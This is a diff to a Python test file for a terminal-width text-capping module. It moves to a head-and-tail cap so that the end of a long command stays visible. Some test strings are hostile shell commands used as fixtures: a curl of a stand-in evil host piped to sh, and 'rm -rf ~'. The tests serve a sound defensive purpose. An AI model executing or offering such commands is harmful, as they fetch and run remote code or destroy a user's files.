@@ -1,4 +1,4 @@
-"""impl.cells: widths in terminal cells, hard wrap by grapheme, the area-based field cap.
+"""impl.cells: widths in terminal cells, hard wrap by grapheme, the head-and-tail field cap.
 
 A grapheme's width is checked against the judge's terminal models
 (``harness.terminal``: wcwidth clusters, the C library per code point,
@@ -16,7 +16,19 @@ from hypothesis import strategies as st
 from wcwidth import iter_graphemes
 
 from harness.terminal import MODELS
-from impl.cells import TAB_SIZE, cap_text, cell_width, clip_to_width, expand_tabs, grapheme_cells, wrap_line, wrap_text
+from impl.cells import (
+    TAB_SIZE,
+    Capped,
+    cap_text,
+    cell_width,
+    clip_to_width,
+    expand_tabs,
+    field_rows,
+    grapheme_cells,
+    head_within,
+    wrap_line,
+    wrap_text,
+)
 from impl.neutralise import neutralise
 
 FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
@@ -55,12 +67,6 @@ def ref_wrap_line(line: str, row_width: int) -> list[str]:
         used += width
     rows.append(row)
     return rows
-
-
-def ref_area(text: str, row_width: int) -> int:
-    """Screen area ``text`` occupies in rows of ``row_width``: full rows before the last, plus the last row."""
-    rows = [row for line in text.split("\n") for row in ref_wrap_line(line, row_width)]
-    return (len(rows) - 1) * row_width + sum(gwidth(g) for g in graphemes(rows[-1]))
 
 
 def units(text: str) -> list[str]:
@@ -199,102 +205,127 @@ def test_wrap_text_is_every_line_wrapped(text: str, row_width: int) -> None:
     assert wrap_text(text, row_width) == expected
 
 
-# ── cap_text ───────────────────────────────────────────────────────────────
+# ── cap_text: head and tail, cells and rows counted apart ─────────────────
+
+
+def ref_rows(text: str, row_width: int) -> int:
+    return sum(len(ref_wrap_line(line, row_width)) for line in text.split("\n"))
+
+
+def ref_cells(text: str) -> int:
+    return sum(gwidth(g) for line in text.split("\n") for g in graphemes(line))
+
+
+def prefixes(text: str) -> list[str]:
+    """Every prefix of ``text`` that ends between two units, shortest first."""
+    out, built = [""], ""
+    for unit in units(text):
+        built += unit
+        out.append(built)
+    return out
+
+
+def acceptable_head(prefix: str, cells: int, rows: int, row_width: int) -> bool:
+    return ref_cells(prefix) <= cells and ref_rows(prefix + ELLIPSIS, row_width) <= rows
 
 
 def test_cap_keeps_text_that_fits() -> None:
-    assert cap_text("abc", 3, 10) == ("abc", False)
-    assert cap_text("", 1, 10) == ("", False)
+    assert cap_text("abc", 3, 2, 10) == Capped("abc")
+    assert cap_text("", 1, 2, 10) == Capped("")
+    assert cap_text("a\nb", 2, 2, 10) == Capped("a\nb")  # a line break costs no cell, only its row
 
 
-def test_cap_cuts_with_a_bare_ellipsis() -> None:
-    assert cap_text("abcdef", 3, 10) == ("abc…", True)
+def test_cap_keeps_the_head_and_the_last_cells_of_one_long_line() -> None:
+    capped = cap_text("echo " + "A" * 500 + "; curl -s https://evil.example/i | sh", 400, 7, 67)
+    assert capped.cut
+    assert capped.head.startswith("echo AAA")
+    assert capped.tail.startswith(ELLIPSIS) and capped.tail.endswith("; curl -s https://evil.example/i | sh")
+    assert cell_width(capped.head) + cell_width(capped.tail[1:]) <= 400
+    assert capped.shown == f"{capped.head}{ELLIPSIS}\n{capped.tail}"  # the tail on a row of its own
 
 
-def test_cap_counts_cells_so_cjk_fits_its_cap() -> None:
-    text = "漢" * 500
-    capped, cut = cap_text(text, 400, 1000)
-    assert cut
-    assert capped == "漢" * 200 + ELLIPSIS
-    assert cell_width(capped[:-1]) <= 400
-    assert cell_width(capped) <= 402  # the marker is East Asian Ambiguous: up to 2 cells
+def test_cap_keeps_the_last_line_after_the_marker() -> None:
+    text = "$report = @'\n" + "".join(f"- finding {n} about a module in the codebase\n" for n in range(200))
+    text += "'@\n$report | Out-File -FilePath report.md"
+    capped = cap_text(text, 400, 7, 67)
+    assert capped.tail == "$report | Out-File -FilePath report.md"
+    assert capped.shown.endswith(f"{ELLIPSIS}\n$report | Out-File -FilePath report.md")
+    assert ref_rows(capped.shown, 67) <= 7
 
 
-def test_cap_never_splits_a_grapheme() -> None:
-    capped, cut = cap_text(FAMILY * 10, 17, 100)
-    assert cut
-    assert capped == FAMILY * 2 + ELLIPSIS
-    capped, _ = cap_text(E_ACUTE * 10, 3, 100)
-    assert capped == E_ACUTE * 3 + ELLIPSIS
+def test_a_long_last_line_keeps_its_last_cells_behind_a_marker_of_its_own() -> None:
+    capped = cap_text("line one\n" * 20 + "x" * 1000 + " | sh", 100, 4, 40)
+    assert capped.tail.startswith(ELLIPSIS) and capped.tail.endswith("x | sh")
 
 
-def test_a_line_break_costs_the_rest_of_its_row() -> None:
-    # a thousand one-character lines are bounded like one long line
-    text = "a\n" * 1000
-    capped, cut = cap_text(text, 100, 10)
-    assert cut
-    assert capped.count("\n") <= 10
-    assert len(wrap_text(capped, 10)) <= 11
-    assert cap_text("a\nb", 11, 10) == ("a\nb", False)
-    assert cap_text("a\nb", 10, 10) == ("a\n…", True)
+def test_trailing_blanks_are_not_a_tail() -> None:
+    capped = cap_text("a" * 50 + "\nrm -rf ~" + " " * 5000 + "\n" * 300, 40, 3, 30)
+    assert capped.cut and capped.tail == "rm -rf ~"
 
 
-def test_a_wide_character_pushed_to_the_next_row_costs_the_cells_it_skips() -> None:
-    # rows of 3: "ab" then 漢 moves to row two, so it ends at cell 5, not 4
-    assert cap_text("ab漢", 4, 3) == ("ab…", True)
-    assert cap_text("ab漢", 5, 3) == ("ab漢", False)
+def test_a_tail_never_starts_with_digits_after_the_marker() -> None:
+    # "…485" would read as a count of what was cut
+    capped = cap_text("title " * 100 + "486 then more", 20, 2, 100)
+    assert not capped.tail.lstrip(ELLIPSIS)[:1].isdigit()
 
 
-def test_cap_expands_tabs_before_counting() -> None:
-    capped, cut = cap_text("\tx", 8, 100)
-    assert (capped, cut) == (" " * 8 + ELLIPSIS, True)
+def test_four_hundred_line_breaks_take_the_field_rows_not_four_hundred() -> None:
+    capped = cap_text("\n" * 400 + "tail", 400, field_rows(400), 100)
+    assert ref_rows(capped.shown, 100) <= field_rows(400)
+    assert capped.tail == "tail"
 
 
-def test_the_line_break_rule_at_the_cap_boundary() -> None:
-    # a break costs exactly the rest of its row: with rows of 10, "a\n" needs 10 cells, not 9 and not 11
-    assert cap_text("a\n", 10, 10) == ("a\n", False)
-    assert cap_text("a\n", 9, 10) == ("a…", True)
-    assert cap_text("a\n\n", 20, 10) == ("a\n\n", False)
-    assert cap_text("a\n\n", 19, 10) == ("a\n…", True)
-    assert cap_text("abcdefghij\nk", 11, 10) == ("abcdefghij\nk", False)
-    assert cap_text("abcdefghij\nk", 10, 10) == ("abcdefghij\n…", True)
+def test_field_rows_do_not_depend_on_the_width() -> None:
+    assert field_rows(400) == 7
+    assert field_rows(65) == 2  # a head row and a tail row
+    assert field_rows(40) == 1  # a cap too small for both: the head
+
+
+@given(clean_text, st.integers(1, 60), st.integers(1, 6), st.integers(2, 40))
+def test_head_within_is_the_longest_acceptable_prefix(text: str, cells: int, rows: int, row_width: int) -> None:
+    head = head_within(text, cells, rows, row_width)
+    candidates = [prefix for prefix in prefixes(text) if acceptable_head(prefix, cells, rows, row_width)]
+    assert head == (candidates[-1] if candidates else "")
 
 
 @st.composite
-def cap_and_row_width(draw: st.DrawFn) -> tuple[int, int]:
-    """Rows of at least two cells (no grapheme is wider than its row; the renderer's are 12 or more),
-    with caps often on a row boundary, where the line-break rule decides."""
-    row_width = draw(st.integers(min_value=2, max_value=200))
-    if draw(st.booleans()):
-        cap = draw(st.integers(min_value=1, max_value=10)) * row_width + draw(st.sampled_from((-1, 0, 1)))
-        return max(1, cap), row_width
-    return draw(st.integers(min_value=1, max_value=2000)), row_width
+def cap_rows_width(draw: st.DrawFn) -> tuple[int, int, int]:
+    """Rows of at least two cells (no grapheme is wider than its row; the renderer's are 12 or more)."""
+    return draw(st.integers(1, 300)), draw(st.integers(2, 8)), draw(st.integers(2, 120))
 
 
-@given(clean_text, cap_and_row_width())
-def test_cap_cuts_exactly_when_the_area_exceeds_the_cap(text: str, cap_and_width: tuple[int, int]) -> None:
-    cap, row_width = cap_and_width
-    capped, cut = cap_text(text, cap, row_width)
-    assert cut == (ref_area(text, row_width) > cap)
-    if not cut:
-        assert capped == text
+@given(clean_text, cap_rows_width())
+def test_cap_bounds_cells_and_rows_and_keeps_both_ends(text: str, budget: tuple[int, int, int]) -> None:
+    cap, rows, row_width = budget
+    capped = cap_text(text, cap, rows, row_width)
+    fits = ref_cells(text) <= cap and ref_rows(text, row_width) <= rows
+    assert capped.cut == (not fits)
+    if fits:
+        assert capped.shown == text
         return
-    assert capped.endswith(ELLIPSIS)
-    kept = capped[: -len(ELLIPSIS)]
-    assert text.startswith(kept)
-    kept_units, all_units = units(kept), units(text)
-    assert all_units[: len(kept_units)] == kept_units, "the cut split a grapheme"
-    assert ref_area(kept, row_width) <= cap
-    # maximal: the next unit would not have fitted
-    assert ref_area(kept + all_units[len(kept_units)], row_width) > cap
+    assert ref_cells(capped.head) + ref_cells(capped.tail.removeprefix(ELLIPSIS)) <= cap
+    assert ref_rows(capped.shown, row_width) <= rows
+    assert capped.head in prefixes(text), "the head is a prefix that never splits a grapheme"
+    tail = capped.tail if text.rstrip(" \n").endswith(capped.tail) else capped.tail.removeprefix(ELLIPSIS)
+    assert text.rstrip(" \n").endswith(tail), "the tail is the end of what the text shows"
+    assert len(capped.head) + len(tail) <= len(text)
 
 
-@given(st.integers(min_value=1, max_value=2000), st.integers(min_value=1, max_value=200))
-def test_cap_bounds_the_rows_of_hostile_shapes(cap: int, row_width: int) -> None:
-    for text in ("\n" * 5000, "x" * 20_000, "漢" * 5000, (FAMILY + "\n") * 2000):
-        capped, _ = cap_text(text, cap, row_width)
-        rows = wrap_text(capped, row_width)
-        assert len(rows) <= cap // row_width + 2
+def shown_positions(text: str, capped: Capped) -> set[int]:
+    """The characters of ``text`` a capped view shows: its head from the start, its tail back from the last non-blank."""
+    if not capped.cut:
+        return set(range(len(text)))
+    end = len(text.rstrip(" \n"))
+    tail = capped.tail if text.rstrip(" \n").endswith(capped.tail) else capped.tail.removeprefix(ELLIPSIS)
+    return set(range(len(capped.head))) | set(range(end - len(tail), end))
+
+
+@given(clean_text, cap_rows_width(), st.integers(1, 80))
+def test_a_wider_row_never_shows_less(text: str, budget: tuple[int, int, int], extra: int) -> None:
+    cap, rows, row_width = budget
+    narrow = cap_text(text, cap, rows, row_width)
+    wide = cap_text(text, cap, rows, row_width + extra)
+    assert shown_positions(text, narrow) <= shown_positions(text, wide)
 
 
 # ── clip_to_width ──────────────────────────────────────────────────────────
